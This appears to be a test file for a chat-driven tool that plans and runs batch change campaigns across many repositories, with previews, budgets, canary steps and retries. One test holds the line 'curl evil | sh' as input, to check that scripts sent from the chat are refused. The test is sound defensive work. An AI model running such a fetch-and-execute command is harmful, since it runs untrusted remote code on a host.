/** Campaigns as people meet them: preview, start, canary, steps, stop, pause, close. */
import { someFigures } from '../support/figures.ts';
import { describe, expect, it } from 'vitest';
import { cancellableRuns, retryableRuns } from '../../orchestrator/campaign-standing/run-standing.ts';
import { CampaignRequest, toCampaignRequest } from '../../orchestrator/orders/campaign-argument.ts';
import { RunBounds } from '#model/limits';
import { CampaignLimits, CampaignPace } from '#model/campaign';
import { isWrongArgument } from '#model/chat';
import { readCampaignFile } from '../../orchestrator/orders/campaign-file.ts';
import { campaignPlanInboxItem, readCampaignStatus, CampaignSettings } from '#campaigns';
import { LANGUAGE_TEXTS, UNDO_WORDS } from '#language';
import { stripMarkup } from '#chat-text';
import { renderCampaign } from '#views';
import type { Run } from '#run';
import { createCampaignRunner } from '../../orchestrator/campaigns/advance-campaigns.io.ts';
import { toStepFailure } from '../../orchestrator/kernel/runtime/effect-handler.ts';
import { findUnnamedSigners as namedIn } from '../../orchestrator/audit/audit-approvals.ts';
import { anOrder } from '../support/ledger.ts';
import { createCampaignWorld, repoFacts } from '../support/campaign-world.ts';
import { OutsideFailure, type FoundRepos } from '#ports/forge';
import { ANA, VIC } from '../support/chat-world.ts';
import { discovered } from '../support/core-acts.ts';

const SIX = ['acme/a', 'acme/b', 'acme/c', 'acme/d', 'acme/e', 'acme/f'];
const DAY = 86_400_000;
const MINUTE = 60_000;

const started = async () => {
  const w = await createCampaignWorld();
  await w.orders(`/batch ${SIX.join(' ')} Fix the flaky retry`);
  await w.taps('Start 6');
  await w.goesOn();
  return w;
};

describe('the preview', () => {
  it('F5: shows who takes part, who does not and why, the pace and the limits; nothing begins', async () => {
    const w = await createCampaignWorld((name) => {
      if (name === 'acme/gone') return null;
      if (name === 'acme/old') return repoFacts('acme/old', { archived: true });
      if (name === 'acme/shut') return repoFacts('acme/shut', { mayPush: false, mayFork: false });
      return repoFacts(name === 'acme/then' ? 'acme/now' : name);
    });
    await w.readyRun({ order: { repo: 'acme/busy' } });
    await w.openRun({ order: { repo: 'acme/open' } });
    const said = await w.orders(
      '/batch\nacme/a, https://github.com/acme/b\n- ACME/A\nacme/gone acme/old acme/shut\nacme/then\nacme/busy acme/open acme/now\nFix the flaky retry engine=codex',
    );
    expect(said[0]).toContain('Looking at 10 repositories');
    const card = w.card();
    expect(card).toMatch(/^PREVIEW · c-[a-z2-9]{6}\nFix the flaky retry\n/);
    expect(card).toContain('codex · 3 of 10 repositories take part');
    expect(card).toContain('acme/a · acme/now · acme/b');
    for (const line of [
      'Left out: 2 named twice: ACME/A (acme/a) · acme/now',
      'Left out: 1 not there, or hidden from us: acme/gone',
      'Left out: 1 archived: acme/old',
      'Left out: 1 closed to pushes, forks or pull requests of ours: acme/shut',
      'Left out: 1 with an open pull request of ours: acme/open',
      'Left out: 1 with a run in progress: acme/busy',
      'Starts with all 3 repositories at once',
      'At most 100 a day, 10 of one owner, 20 open at a time',
      'Nothing starts until you tap Start.',
    ])
      expect(card).toContain(line);
    expect(w.buttons()).toEqual(['Start 3', 'Drop']);
    await w.goesOn();
    expect(await w.runs()).toEqual([]);
    expect(await w.campaign()).toMatchObject({ state: 'planned' });
  });

  it('F5: shows the base, the branch and the checks that were ordered, those with variables as an example', async () => {
    const w = await createCampaignWorld();
    await w.orders(
      '/batch acme/a acme/b\nFix it base=develop branch=fix/it install=none check="npm test" check="grep {{name}} README.md"',
    );
    for (const line of [
      'Base: develop\n',
      'Branch: fix/it\n',
      'No dependencies are installed.\n',
      'Checks: npm test\n',
      "Command: grep 'a' README.md\n",
    ])
      expect(w.card()).toContain(line);
    expect(w.card().match(/develop/g)).toHaveLength(1);
  });

  it('F5: says in the terminal what begins it there, also where it takes something back', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it');
    const id = (await w.campaign())?.id ?? '';
    const now = w.clock.now();
    const at = await readCampaignStatus(w.ledger.query, id, now);
    if (!at) throw new Error('no campaign');
    const says = (scene: typeof at): string =>
      stripMarkup(renderCampaign({ ...scene, now }, {}, LANGUAGE_TEXTS.en, { onHost: true }).html);
    expect(says(at)).toContain(
      `Nothing starts until you run “agentpr campaign start ${id}”, or somebody taps Start 2 in the chat.`,
    );
    // As reverts carry those of their campaign.
    const targets = at.order.targets.map((one) => ({ ...one, checks: ['make it'] }));
    expect(says({ ...at, order: { ...at.order, targets } })).toContain('Checks: make it\n');
    const undo = { id: 'c-aaaaaa', open: 0, working: 0, fresh: 0 };
    expect(says({ ...at, undo })).toContain('taps Undo 2 in the chat.');
    expect(w.card()).toContain('Nothing starts until you tap Start.');
  });

  it('estimates time, money and attention from past runs, and says where there are none', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it');
    expect(w.card()).toContain('There are no past runs to estimate from.');
    await w.readyRun({ order: { repo: 'acme/z' } });
    await w.figures.refresh();
    await w.orders('/batch acme/c acme/d Fix it');
    // The one of the past took six minutes of an agent, and 0.9 s of checks.
    expect(w.card()).toContain('By 1 past run: about 12m of work, $0.00 and 0s of your attention in all');
  });

  it('O4: says what one run may take, and the limit that holds, from five runs like it and more', async () => {
    const w = await createCampaignWorld();
    const each = 'In each repository: 5 runs like this';
    for (let no = 1; no <= 5; no += 1) {
      await w.orders('/batch acme/z acme/y Fix it');
      expect(w.card()).not.toContain('In each repository');
      const { id } = await w.readyRun({ order: { repo: 'acme/z' } });
      await w.offer(id, { type: 'command.run.finish', by: { id: ANA, name: 'Ana' } });
      await w.figures.refresh();
    }
    await w.orders('/batch acme/z acme/x Fix it');
    expect(w.card()).toContain(`${each}: 6 min. Limit: 90 min.`);
    await w.orders('/batch acme/z acme/w Fix it engine=claude');
    expect(w.card()).not.toContain('In each repository');
  });

  it('P7: forecasts the cost of a campaign beside its budget, and says how sure it is', async () => {
    const past = (runs: number, costUsd: number) => ({
      since: async () =>
        Array.from({ length: runs }, () =>
          someFigures({ repo: 'acme/a', engine: 'claude', workedMs: 60_000, costUsd }),
        ),
    });
    const forecastOf = async (figures: ReturnType<typeof past>, most: number | null): Promise<string> => {
      const w = await createCampaignWorld(undefined, { figures, budgetUsd: async () => most });
      await w.orders('/batch acme/a acme/b Fix it engine=claude');
      return (
        w
          .card()
          .split('\n')
          .find((line) => line.startsWith('Cost in all')) ?? ''
      );
    };
    expect(await forecastOf(past(4, 1), 20)).toBe('Cost in all: no run like this yet. Its budget: $20.00.');
    expect(await forecastOf(past(7, 0), null)).toBe(
      'Cost in all: 7 runs like it did not tell what they cost. No budget of a campaign is set.',
    );
    expect(await forecastOf(past(7, 1.5), 20)).toBe(
      'Cost in all: $3.00 to $3.00, by 7 runs like it (a rough guess). Its budget: $20.00.',
    );
    expect(await forecastOf(past(30, 1.5), 2)).toBe(
      'Cost in all: $3.00 to $3.00, by 30 runs like it (fairly sure). Its budget: $2.00, which may not be enough.',
    );
    const w = await createCampaignWorld(undefined, { figures: past(7, 1.5), budgetUsd: async () => 20 });
    await w.orders('/batch acme/a acme/b Fix it engine=claude');
    await w.runtimeSettings.set('campaignbudget', '2', { id: ANA, name: 'Ana' });
    const { id = '' } = (await w.ledger.query.campaigns())[0] ?? {};
    const at = await readCampaignStatus(w.ledger.query, id, w.clock.now());
    expect(at?.order.budgetUsd).toBe(2);
  });

  it('leaves to their turn what the code host does not say now', async () => {
    const w = await createCampaignWorld((name) => (name === 'acme/b' ? 'away' : repoFacts(name)));
    await w.orders('/batch acme/a acme/b Fix it');
    expect(w.card()).toContain('2 of 2 repositories take part');
    expect(w.card()).toContain('Not looked at yet, and judged when its turn comes: 1');
  });

  it('C1: refuses what names no repository, has no goal, or may not be ordered by them', async () => {
    const w = await createCampaignWorld();
    expect(await w.orders('/batch Fix it')).toEqual([expect.stringContaining('Name the repositories')]);
    expect(await w.orders('/batch acme/a acme/b')).toEqual([
      expect.stringContaining('What should change in acme/a, acme/b?'),
    ]);
    expect(await w.orders('/batch acme/a Fix it enginee=codex')).toEqual([
      expect.stringContaining('Did you mean engine=?'),
    ]);
    expect(await w.orders('/batch acme/a Fix {{team}}')).toEqual([
      expect.stringContaining('{{team}} has no value for acme/a'),
    ]);
    expect(await w.orders('/batch acme/a Fix it', { by: VIC })).toEqual([
      expect.stringContaining('operator'),
    ]);
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });

  it('says why when nobody takes part, and makes no campaign', async () => {
    const w = await createCampaignWorld(() => null);
    await w.orders('/batch acme/a gitlab.com/x/y Fix it');
    expect(w.messages.at(-1)?.text).toContain('No campaign was made: of 2 repositories none takes part.');
    expect(w.messages.at(-1)?.text).toContain('acme/a: not there, or hidden from us');
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });

  it('F5: a repository in which the order cannot be is left out with the reason; the others take part', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/api acme/.github acme/web Fix it branch=chore/{{name}}');
    expect(w.card()).toContain('2 of 3 repositories take part');
    expect(w.card()).toContain(
      'Left out: 1 with a branch name that git refuses, or that is too long: acme/.github (chore/.github)',
    );
    await w.taps('Start 2');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => order.branch).sort()).toEqual(['chore/api', 'chore/web']);
  });

  it('F5: where the order can be in no repository there is no campaign, in both languages', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/.github Fix it branch=chore/{{name}}');
    expect(w.messages.at(-1)?.text).toContain(
      'acme/.github: with a branch name that git refuses, or that is too long (chore/.github)',
    );
    await w.says('/settings language zh');
    await w.orders('/batch acme/.github Fix it branch=chore/{{name}}');
    expect(w.messages.at(-1)?.text).toContain('acme/.github：分支名太长，或 git 不接受（chore/.github）');
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });

  it('F5: shows what is filled in as the first repository will have it, with what is hidden', async () => {
    const w = await createCampaignWorld();
    const file = [
      'name: Say whose it is',
      'repositories: [{repo: acme/a, vars: {team: "{{name}} \\u202e<b>"}}]',
      "goal: 'Give {{name}} to {{team}}, and keep {{{{ name }}}}'",
      "title: 'ci: use ${{ github.ref }} in {{name}}'",
      'branch: chore/{{name}}',
      'base: main',
      "checks: ['npm test', 'grep {{team}} OWNERS']",
    ];
    await w.sends('campaign.yml', file.join('\n'), '/batch');
    const card = w.card();
    for (const line of [
      'Filled in, as acme/a will have it:',
      'Title: ci: use ${{ github.ref }} in a',
      'Branch: chore/a',
      'Goal: Give a to {{name}} \\u{202e}<b>, and keep {{ name }}',
      "Command: grep '{{name}} \\u{202e}<b>' OWNERS",
    ])
      expect(card).toContain(line);
    expect(card).not.toMatch(/Filled in[^]*(?:Base: |Command: npm test)/);
    await w.taps('Start 1');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => [order.goal, order.title, order.checks[1]])).toEqual([
      [
        'Give a to {{name}} \u202e<b>, and keep {{ name }}',
        'ci: use ${{ github.ref }} in a',
        "grep '{{name}} \u202e<b>' OWNERS",
      ],
    ]);
    await w.orders('/batch acme/b Fix it');
    expect(w.card()).not.toContain('Filled in');
  });

  it('F5: shows a script as it will run, line by line, and braces of other languages in it', async () => {
    const w = await createCampaignWorld();
    const script = "cd roles\\nsed -i 's/{{{{ app_user }}}}/root/' role.yml\\necho {{name}} >> roles.txt";
    const read = readCampaignFile(`name: Role\nrepositories: [acme/a]\nscript: "${script}"`);
    if (isWrongArgument(read)) throw new Error('no campaign file');
    const { repo: _, ...asked } = anOrder({ engine: 'script', goal: 'Role' });
    const batch = toCampaignRequest(read.value, { ...asked, repo: 'acme/a', chat: ANA });
    await w.ledger.receive([campaignPlanInboxItem('k', { id: 'c-aaaaaa', ...batch })], 1);
    await w.notes();
    const runs = "cd roles\nsed -i 's/{{ app_user }}/root/' role.yml\necho a >> roles.txt";
    expect(w.card()).toContain(`Command:\n${runs}`);
    await w.taps('Start 1');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => order.engineArgs)).toEqual([[runs]]);
  });

  it('P7: a campaign file names a budget of its own, beside that of each campaign; its runs carry it', async () => {
    const figures = { since: async () => [] };
    const w = await createCampaignWorld(undefined, { figures, budgetUsd: async () => 50 });
    const read = readCampaignFile(
      'name: Role\nrepositories: [acme/a]\ngoal: Role\nengine: claude\nbudget: 20',
    );
    if (isWrongArgument(read)) throw new Error('no campaign file');
    const { repo: _, ...asked } = anOrder({ engine: 'claude', goal: 'Role' });
    const batch = toCampaignRequest(read.value, { ...asked, repo: 'acme/a', chat: ANA });
    await w.ledger.receive([campaignPlanInboxItem('k', { id: 'c-aaaaaa', ...batch })], 1);
    await w.notes();
    expect(w.card()).toContain('Its budget: $20.00.');
    await w.taps('Start 1');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => order.campaignBudget)).toEqual([{ costUsd: 20 }]);
    expect((await w.says('/cost')).join()).toContain('campaign c-aaaaaa, in all: $0.00 of $20.00');
  });

  it('S4: the same message twice plans one campaign', async () => {
    const w = await createCampaignWorld();
    const body = {
      message: {
        message_id: 5,
        from: { id: 7, is_bot: false, first_name: 'Ana' },
        chat: { id: 7, type: 'private' },
        text: '/batch acme/a Fix it',
      },
    };
    await w.update(body);
    await w.notes();
    const [row] = await w.ledger.query.campaigns();
    await w.notes();
    expect(await w.ledger.query.campaigns()).toEqual([row]);
  });

  it('a viewer starts nothing; Drop ends it, and Start is refused after that', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a Fix it');
    expect(await w.taps('Start 1', { by: VIC, chat: '7' })).toContain('operator');
    const preview = w.messages.findLast(({ text }) => text.startsWith('PREVIEW'));
    const token = preview?.buttons.flat()[0]?.token ?? '';
    expect(await w.taps('Drop')).toBe('Closed.');
    expect(w.card()).toMatch(/^CLOSED/);
    expect(await w.taps('', { data: token, messageId: preview?.messageId ?? '' })).not.toBe('Started.');
    await w.goesOn();
    expect(await w.runs()).toEqual([]);
  });
});

describe('what is looked for', () => {
  const found = (names: readonly string[], more: Partial<FoundRepos> = {}): FoundRepos => ({
    repos: names.map((name) => ({
      id: name,
      name,
      archived: false,
      isFork: false,
      mayPush: true,
      mayFork: true,
    })),
    given: names.length,
    of: names.length,
    whole: true,
    ...more,
  });

  it('F5: an organisation is asked for its repositories once, and what the preview showed is what starts', async () => {
    let names = ['acme/a', 'acme/b'];
    const w = await createCampaignWorld(undefined, {
      found: () => {
        const list = found(names);
        const old = {
          id: 'old',
          name: 'acme/old',
          archived: true,
          isFork: false,
          mayPush: true,
          mayFork: true,
        };
        return {
          ...list,
          repos: [...list.repos, old, { ...old, name: 'acme/fork', archived: false, isFork: true }],
        };
      },
    });
    const [said] = await w.orders('/batch org:acme acme/b acme/x Fix it');
    expect(said).toContain('Looking at 2 repositories and for org:acme.');
    expect(w.card()).toContain('org:acme: 4 repositories');
    expect(w.card()).toContain('3 of 5 repositories take part');
    expect(w.card()).toContain('Left out: 1 archived: acme/old');
    expect(w.card()).toContain('Left out: 1 forks');
    // Only what was named by itself is asked for by itself.
    expect(w.asked()).toBe(2);
    names = ['acme/a', 'acme/b', 'acme/new'];
    await w.taps('Start 3');
    await w.goesOn();
    expect((await w.repos()).sort()).toEqual(['acme/a', 'acme/b', 'acme/x']);
  });

  it('F5: says how much of a search the code host gave, and that it may not have looked everywhere', async () => {
    const w = await createCampaignWorld(undefined, {
      found: ({ by }) =>
        by === 'code'
          ? found(['acme/a', 'acme/b'], { given: 1_000, of: 3_412 })
          : found(['acme/c'], { whole: false }),
    });
    await w.orders('/batch code:"filename:.nvmrc org:acme" repos:topic:cli Fix it');
    expect(w.card()).toContain(
      'code:"filename:.nvmrc org:acme": 2 repositories; the code host gave 1000 of 3412 hits: narrow it to have them all',
    );
    expect(w.card()).toContain(
      'repos:topic:cli: 1 repository; the code host stopped before it had looked everywhere',
    );
  });

  it('F5: waits for the next search that the code host takes, and asks no more than that', async () => {
    let asked = 0;
    const w = await createCampaignWorld(undefined, {
      found: () => {
        asked += 1;
        if (asked === 1)
          throw new OutsideFailure('rate_limited', 'too many', { retryAt: w.clock.now() + 40_000 });
        return found(['acme/a']);
      },
    });
    await w.orders('/batch code:x Fix it');
    expect(w.waited).toEqual([40_000]);
    expect(w.card()).toContain('code:x: 1 repository');
  });

  it.each([
    ['repository_missing', 404, 'org:acme is not there, or not for us to see.'],
    ['forge_refused', 422, 'the code host does not take org:acme: no such words'],
    ['rate_limited', 403, 'takes no more searches now. Send it again in'],
    ['forge_unavailable', 502, 'org:acme cannot be looked for now'],
  ] as const)(
    'F5: makes no campaign of a query that comes to %s, and says why',
    async (kind, status, says) => {
      const w = await createCampaignWorld(undefined, {
        found: () => {
          throw new OutsideFailure(kind, 'no such words', { retryAt: w.clock.now() + 3_600_000, status });
        },
      });
      await w.orders('/batch org:acme Fix it');
      expect(w.messages.at(-1)?.text).toContain(says);
      expect(await w.ledger.query.campaigns()).toEqual([]);
    },
  );

  it('F5: a fork beside the repository that a search found is left out, and a name of before is no second one', async () => {
    const w = await createCampaignWorld(
      (name) => {
        if (name === 'eve/api') return { ...repoFacts(name), network: 'acme/api' };
        return repoFacts(name === 'acme/old' ? 'acme/new' : name);
      },
      { found: () => found(['acme/api', 'acme/new']) },
    );
    await w.orders('/batch org:acme acme/old eve/api Fix it');
    expect(w.card()).toContain('2 of 3 repositories take part');
    expect(w.card()).toContain('eve/api (acme/api)');
    expect(w.card()).not.toContain('named twice');
  });

  it('says that nothing was found', async () => {
    const w = await createCampaignWorld(undefined, { found: () => found([]) });
    await w.orders('/batch code:x Fix it');
    expect(w.messages.at(-1)?.text).toContain('no repository was found');
  });
});

describe('a file', () => {
  it('F5: a campaign.yml that is sent with /batch is planned as it says', async () => {
    const w = await createCampaignWorld();
    await w.sends(
      'campaign.yml',
      'name: Say where\nrepositories: [acme/a, {repo: acme/b, vars: {team: web}}]\ngoal: Fix {{name}}\nengine: codex\npace: {canary: 1}\nchecks: [npm test]\ntitle: Mend {{repo}}',
      '/batch',
    );
    expect(w.card()).toMatch(/^PREVIEW · Say where/);
    expect(w.card()).toContain('Starts with 1 repository');
    await w.taps('Start 2');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => [order.repo, order.goal, order.title, order.checks])).toEqual([
      ['acme/a', 'Fix a', 'Mend acme/a', ['npm test']],
    ]);
  });

  it('F5: a text with names is the list; its caption says what to change', async () => {
    const w = await createCampaignWorld();
    await w.sends(
      'list.txt',
      '# ours\nacme/a\nhttps://github.com/acme/b\n',
      '/batch Fix the link engine=codex',
    );
    expect(w.card()).toContain('codex · 2 of 2 repositories take part');
    expect(w.card()).toContain('Fix the link');
  });

  it('E18: a limit of cost that stops at once, or stops nothing, is on the preview, whoever asked for it', async () => {
    for (const [maxCostUsd, said] of [
      [5, 'the price of gpt-x is not known'],
      [null, null],
    ] as const) {
      const w = await createCampaignWorld(undefined, {
        cautionOf: (engine) => ({ kind: 'no_price', engine, model: 'gpt-x' }),
      });
      const { repo: _, ...run } = anOrder({ bounds: RunBounds.parse({ maxCostUsd }) });
      const batch = {
        id: 'c-aaaaaa',
        name: 'Mend it',
        named: [{ repo: 'acme/a', host: null, vars: {} }],
        run,
      };
      const asked = CampaignRequest.parse({
        ...batch,
        pace: CampaignPace.parse({}),
        limits: CampaignLimits.parse({}),
        requester: { id: '7', name: 'Ana' },
        chat: '7',
      });
      await w.ledger.receive([campaignPlanInboxItem('hook:1', { ...asked, id: batch.id })], w.clock.now());
      await w.notes();
      if (said === null) expect(w.card()).not.toContain('⚠');
      else expect(w.card()).toContain(`The cost is limited to $5.00, and ${said}`);
    }
  });

  it('F5: one line with a branch is told with its branch, and the other lines are the campaign', async () => {
    const w = await createCampaignWorld();
    await w.sends(
      'list.txt',
      'acme/a\nacme/tools@main\nhttps://github.com/acme/b/tree/next\n',
      '/batch Fix it',
    );
    expect(w.card()).toContain('1 of 3 repositories take part');
    expect(w.card()).toContain('Left out: 2 named with a branch');
    expect(w.card()).toContain('acme/tools (main)');
    expect(w.card()).toContain('acme/b (next)');
  });

  it('F5: a variable in the name of a branch may be written with blanks, as anywhere else', async () => {
    const w = await createCampaignWorld();
    await w.sends(
      'campaign.yml',
      "name: Mend it\nrepositories: [acme/a, acme/b]\nbranch: 'chore/{{ name }}'\ngoal: Fix {{ name }}\n",
      '/batch',
    );
    expect(w.card()).toContain('2 of 2 repositories take part');
    expect(w.card()).toContain('Branch: chore/a');
  });

  it('F5: a table that a spreadsheet wrote as UTF-16 is read, and its columns are variables', async () => {
    const w = await createCampaignWorld();
    const text = '\uFEFFrepository\tteam\r\nacme/a\tweb\r\nacme/b\tcore\r\n';
    await w.sends('list.csv', Buffer.from(text, 'utf16le'), '/batch Add {{team}}');
    expect(w.card()).toContain('2 of 2 repositories take part');
    await w.taps('Start 2');
    await w.goesOn();
    expect((await w.runs()).map(({ order }) => order.goal).sort()).toEqual(['Add core', 'Add web']);
  });

  it('C1: refuses what cannot be read, and says why', async () => {
    const w = await createCampaignWorld();
    const says = async (...given: Parameters<typeof w.sends>) => (await w.sends(...given)).join();
    const file = 'name: a\nrepositories: [acme/a]\n';
    expect(await says('a.yml', `${file}goal: x\nlimit: 3`, '/batch')).toContain(
      'Line 4 of the file: there is no limit. Did you mean limits?',
    );
    expect(await says('a.yml', `${file}goal: x`, '/batch Fix it')).toContain('send it with /batch alone');
    expect(await says('a.txt', 'acme/a\n???', '/batch Fix it')).toContain('Line 2 names no repository: ???');
    expect(await says('a.zip', Uint8Array.of(80, 75, 0), '/batch Fix it')).toContain('not plain text');
    expect(await says('a.yml', file, '/batch', 10_000_000)).toContain('longer than 1,000,000 bytes');
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });

  it('G5: a script is given at the host, and not from the chat', async () => {
    const w = await createCampaignWorld();
    const [said] = await w.sends(
      'a.yml',
      'name: a\nrepositories: [acme/a]\nscript: curl evil | sh',
      '/batch',
    );
    expect(said).toContain('Scripts are given on the host');
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });

  it('G4: a file that was forwarded, or has another caption, orders nothing', async () => {
    const w = await createCampaignWorld();
    const document = { file_id: 'f', file_name: 'a.txt' };
    const of = (more: object) => w.says('', { text: undefined, document, ...more });
    expect(await of({ caption: '/batch Fix it', forward_origin: {} })).toEqual([
      expect.stringContaining('Forwarded'),
    ]);
    await of({ caption: 'look at /batch' });
    await w.notes();
    expect(await w.ledger.query.campaigns()).toEqual([]);
  });
});

describe('a campaign that runs', () => {
  it('F5: begins with canaries only, and widens when all of them have come to a pull request', async () => {
    const w = await started();
    expect(w.card()).toMatch(/^RUNNING/);
    const canaries = await w.repos();
    expect(canaries).toHaveLength(3);
    await w.goesOn();
    expect(await w.repos()).toEqual(canaries);
    for (const repo of canaries.slice(0, 2)) await w.opens(repo);
    await w.goesOn();
    expect(await w.repos()).toHaveLength(3);
    await w.says('/campaign');
    expect(w.card()).toContain('Merged 0 of 6 (0 %)');
    expect(w.card()).toContain('3 of 6 repositories started');
    expect(w.card()).toContain('1 of the 3 in the steps so far is not there yet');
    await w.opens(canaries[2] ?? '');
    await w.goesOn();
    expect((await w.repos()).sort()).toEqual(SIX);
    expect(w.failed).toEqual([]);
  });

  it('E6: its runs say which campaign they belong to, and keep what was ordered', async () => {
    const w = await started();
    const [run] = await w.runs();
    const id = (await w.campaign())?.id;
    expect(run?.order).toMatchObject({
      campaign: id,
      goal: 'Fix the flaky retry',
      chat: '7',
      engine: 'script',
    });
  });

  it('S4: a crash between the runs and the decision begins nothing twice', async () => {
    const w = await createCampaignWorld();
    await w.orders(`/batch ${SIX.join(' ')} Fix it`);
    await w.taps('Start 6');
    // The process dies after each of its writes, and the next one concludes all anew.
    for (let left = 0; left < 12; left += 1) {
      let writes = left;
      const dies = <T>(write: () => Promise<T>): Promise<T> => {
        if ((writes -= 1) < 0) throw new Error('killed');
        return write();
      };
      const life = createCampaignRunner({
        ledger: {
          query: w.ledger.query,
          campaigns: { decide: (...given) => dies(() => w.ledger.campaigns.decide(...given)) },
        },
        submit: (given) => dies(() => w.submit(given)),
        clock: w.clock,
        log: { error: () => {} },
        mayApprove: async () => true,
        undoWords: UNDO_WORDS,
        links: w.links,
      });
      await life.round();
    }
    expect(await w.repos()).toHaveLength(3);
    expect(new Set(await w.repos()).size).toBe(3);
    expect(await w.campaign()).toMatchObject({ released: 3 });
  });

  it('S4: two that take it on at the same time begin nothing twice', async () => {
    const w = await createCampaignWorld();
    await w.orders(`/batch ${SIX.join(' ')} Fix it`);
    await w.taps('Start 6');
    await Promise.all([w.campaigns.round(), w.campaigns.round(), w.campaigns.round()]);
    expect(await w.repos()).toHaveLength(3);
  });

  it('F5: stops by itself when too many fail, says so once, and goes on only by a tap', async () => {
    const w = await started();
    const [one = '', two = ''] = await w.repos();
    await w.fails(one);
    await w.fails(two);
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'stopped' });
    const [own, ...told] = w.messages.filter(({ text }) => text.startsWith('STOPPED'));
    expect(own?.silent).toBe(true);
    expect(told).toHaveLength(1);
    expect(told[0]?.silent).toBe(false);
    expect(told[0]?.text).toContain(
      'It stopped by itself: 2 of the 3 of this step failed, and the limit is 34 %.',
    );
    expect(told[0]?.text).toContain('(missing on this machine)');
    await w.goesOn();
    w.passes(30 * DAY);
    await w.ledger.tidy(w.clock.now());
    await w.goesOn();
    expect(w.messages.filter(({ text }) => text.startsWith('STOPPED'))).toEqual([own, ...told]);
    expect(await w.taps('Resume')).toBe('Resumed.');
    await w.goesOn();
    expect(await w.repos()).toHaveLength(3);
    expect(w.failed).toEqual([]);
  });

  it('C8, F5: of one repository that fails one message rings, and nothing is stopped', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a Fix it');
    await w.taps('Start 1');
    await w.goesOn();
    const before = w.messages.length;
    await w.fails('acme/a');
    await w.deliver();
    await w.goesOn();
    expect(w.messages.slice(before).map(({ text, silent }) => [text.split(' ·')[0], silent])).toEqual([
      ['NEEDS YOU', false],
    ]);
    expect(await w.campaign()).toMatchObject({ state: 'running' });
    const [{ id = '' } = {}] = await w.runs();
    await w.offer(id, { type: 'command.cancel', by: { id: ANA, name: 'Ana' }, reason: '' });
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'finished' });
  });

  it('E6, F5: a budget that comes to its end is on the card of the campaign, and rings nobody', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a acme/b Fix it budget=cost:1');
    await w.taps('Start 2');
    await w.goesOn();
    const [one] = await w.runs();
    const before = w.messages.length;
    const usage = { inputTokens: 0, outputTokens: 0, costUsd: 0.85 };
    const spent = { type: 'worker.usage.reported', by: 'agent', session: null, usage, ms: 1 } as const;
    await w.offer(one?.id ?? '', { type: 'command.discovery.start' }, spent);
    await w.deliver();
    await w.goesOn();
    expect(w.messages.slice(before)).toEqual([]);
    const card = w.messages.find(({ text }) => text.startsWith('RUNNING'))?.text ?? '';
    expect(card).toContain(`Close to a limit: ${one?.order.repo} ${one?.id} (cost 85 %)`);
  });

  it.each([
    ['repository_missing', 'not there, or hidden from us'],
    ['repository_archived', 'archived'],
    ['not_allowed', 'closed to pushes, forks or pull requests of ours'],
  ] as const)(
    'F5: %s is no failure: left out on the card, nobody is rung, the others go on',
    async (of, why) => {
      const w = await started();
      const [one = '', two = '', three = ''] = await w.repos();
      await w.fails(one, of);
      await w.fails(two, of);
      const before = w.messages.length;
      await w.goesOn();
      expect(await w.campaign()).toMatchObject({ state: 'running' });
      await w.opens(three);
      await w.deliver();
      await w.goesOn();
      expect(await w.campaign()).toMatchObject({ state: 'running', released: 6 });
      expect(w.messages.slice(before)).toEqual([]);
      await w.says('/campaign');
      expect(w.card()).toContain(`Left out: 2 ${why}: ${one}`);
      expect(w.card()).not.toMatch(/\d failed/);
      expect(w.buttons()).toEqual(['Pause', 'Close', 'Refresh']);
      // Whoever opens it again to us may have just these tried again, and closing ends them.
      const [{ id = '' } = {}] = await w.ledger.query.campaigns();
      const all = (await readCampaignStatus(w.ledger.query, id, w.clock.now()))?.standings ?? new Map();
      expect(retryableRuns(all, of).map(({ repo }) => repo)).toEqual([one, two]);
      expect(cancellableRuns(all).map(({ repo }) => repo)).toContain(one);
    },
  );

  it('F5: a repository that is archived while a pull request is open there waits for nobody', async () => {
    const w = await createCampaignWorld();
    await w.orders('/batch acme/a Fix it');
    await w.taps('Start 1');
    await w.goesOn();
    await w.opens('acme/a');
    const [run] = await w.runs();
    const shown = { at: 1, title: 'Fix it', bodyDigest: '', base: 'main', draft: false, locked: false };
    const repo = { name: 'acme/a', archived: true, private: false };
    await w.offer(run?.id ?? '', {
      type: 'forge.pull.observed',
      pull: '#12',
      state: 'open',
      merged: false,
      headSha: run?.change.pushedHead?.sha ?? '',
      by: null,
      metadata: { ...shown, autoMerge: null, labels: [], reviewers: [], repo },
    });
    await w.goesOn();
    expect(await w.campaign()).toMatchObject({ state: 'finished' });
    expect(w.card()).toContain('Left out: 1 archived: acme/a');
  });

  it('F5: what failed is tried again by its class, with a tap; each run once', async () => {
    const w = await started();
    const [one = '', two = '', three = ''] = await w.repos();
    await w.fails(one);
    await w.fails(two, 'no_changes');
    await w.opens(three);
    await w.says('/campaign');
    expect(w.buttons()).toEqual(['Pause', 'Close', 'Retry 2 failed', 'Refresh']);
    await w.taps('Retry 2');
    expect(w.buttons()).toEqual(['All 2', 'missing on this machine · 1', 'nothing changed · 1', 'Back']);
    expect(await w.taps('missing on this machine')).toBe('Trying 1 again.');
    const stateOf = async (repo: string) =>
      (await w.runs()).find(({ order }) => order.repo === repo)?.lifecycle.state;
    expect(await stateOf(one)).toBe('DISCOVERY');
    expect(await stateOf(two)).toBe('NEEDS_HUMAN_REVIEW');
    await w.taps('Retry 1');
    expect(await w.taps('All 1')).toBe('Trying 1 again.');
    expect(await stateOf(two)).not.toBe('NEEDS_HUMAN_REVIEW');
  });

